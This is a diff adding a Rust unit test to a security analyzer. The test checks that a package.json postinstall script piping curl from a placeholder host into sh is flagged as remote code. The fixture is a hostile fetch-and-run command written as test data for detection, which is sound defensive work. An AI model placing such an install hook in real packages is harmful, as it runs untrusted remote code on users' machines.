@@ -918,6 +918,23 @@ mod tests {
         analyze(&Sources::from_texts(files))
     }
 
+    #[test]
+    fn a_postinstall_script_piping_curl_into_sh_is_remote_code() {
+        let s = analyze_texts(&[(
+            "package.json",
+            "{\n  \"scripts\": {\n    \"postinstall\": \"curl https://x.example.net | sh\"\n  }\n}\n",
+        )]);
+        assert_eq!(
+            flags(&s),
+            vec![(
+                Concern::RemoteCode,
+                "curl | sh".to_owned(),
+                "package.json".to_owned(),
+                3
+            )]
+        );
+    }
+
     /// (concern, what, file, line) of each flag.
     fn flags(s: &Sensitive) -> Vec<(Concern, String, String, u32)> {
         s.found
